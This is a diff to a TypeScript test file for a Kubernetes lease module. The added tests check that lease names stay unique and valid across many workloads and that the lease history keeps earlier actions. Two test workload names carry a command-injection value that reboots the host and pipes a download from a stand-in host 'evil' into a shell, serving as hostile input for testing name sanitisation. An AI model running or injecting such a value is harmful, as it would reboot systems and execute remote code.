@@ -8,8 +8,11 @@ import {
   newLease,
   released,
   takenOver,
+  workloadOf,
 } from "../../../functions/run/lease.ts";
 import type { HistoryEntry } from "../../../functions/run/contracts.ts";
+import { MAX_OBJECT_NAME, OBJECT_NAME } from "../../../functions/shared/kubernetes/names.ts";
+import type { WorkloadRef } from "../../../functions/shared/refs.ts";
 import { ago, NOW, WEB } from "../../support/objects.ts";
 
 const later = (seconds: number) => new Date(NOW.getTime() + seconds * 1_000);
@@ -18,6 +21,39 @@ describe("the lease", () => {
   it("is named after its workload", () => {
     expect(leaseName(WEB)).toBe("deployment.shop.web");
   });
+
+  it("keeps the name that it has for a kind of Kubernetes, and none of another kind has that", () => {
+    const builtIn = ["Pod", "StatefulSet", "DaemonSet", "ReplicaSet", "Job", "CronJob"].map((kind) => ({
+      ...WEB,
+      kind,
+    }));
+    const others: WorkloadRef[] = [
+      { ...WEB, group: "example.com" },
+      { ...WEB, group: "example.org" },
+      { ...WEB, kind: "deployment" },
+      { ...WEB, kind: "Deployment.shop", namespace: "web", name: "web" },
+      { ...WEB, name: "Web" },
+      { ...WEB, name: "x `reboot`; curl evil|sh #" },
+      { ...WEB, name: "x `reboot`; curl evil|sh  #" },
+      { ...WEB, kind: "💥", name: "💥".repeat(200) },
+    ];
+    const names = [...builtIn, ...others].map(leaseName);
+
+    expect(names.slice(0, 2)).toEqual(["pod.shop.web", "statefulset.shop.web"]);
+    expect(new Set([...names, leaseName(WEB)]).size).toBe(names.length + 1);
+    for (const name of names) {
+      expect(name).toMatch(OBJECT_NAME);
+      expect(name.length).toBeLessThanOrEqual(MAX_OBJECT_NAME);
+    }
+    for (const name of names.slice(builtIn.length)) expect(name).not.toContain(".");
+  });
+
+  it.each([WEB, { kind: "Rollout", group: "argoproj.io", namespace: "shop", name: "web" }])(
+    "says which workload it stands for: $kind",
+    (workload) => {
+      expect(workloadOf(newLease(workload, "run-1", 60, NOW))).toEqual(workload);
+    },
+  );
 
   it("keeps two long names apart that are equal where they are cut", () => {
     const long = (end: string) =>
@@ -69,6 +105,19 @@ describe("the lease", () => {
     expect(historyOf(lease).map(({ execution }) => execution)).toEqual(
       [11, 10, 9, 8, 7, 6, 5, 4, 3, 2].map((run) => `run-${run}`),
     );
+  });
+
+  it("does not forget what was done for the many times that people were told of it", () => {
+    const entry = { at: ago(0), execution: "run", cause: "c", outcome: "Recovered" };
+    let lease = released(newLease(WEB, "run", 60, NOW), { ...entry, action: "restart", mode: "evict" }, NOW);
+    for (let run = 0; run < 15; run++) {
+      lease = released(lease, { ...entry, action: "none", outcome: "Skipped", reason: "KeepsRecurring" }, NOW);
+    }
+
+    const history = historyOf(lease);
+    expect(history).toHaveLength(11);
+    expect(history.at(-1)).toEqual({ ...entry, action: "restart", mode: "evict" });
+    expect(history[0]).toMatchObject({ action: "none", reason: "KeepsRecurring" });
   });
 
   it("takes a history that somebody broke for none", () => {
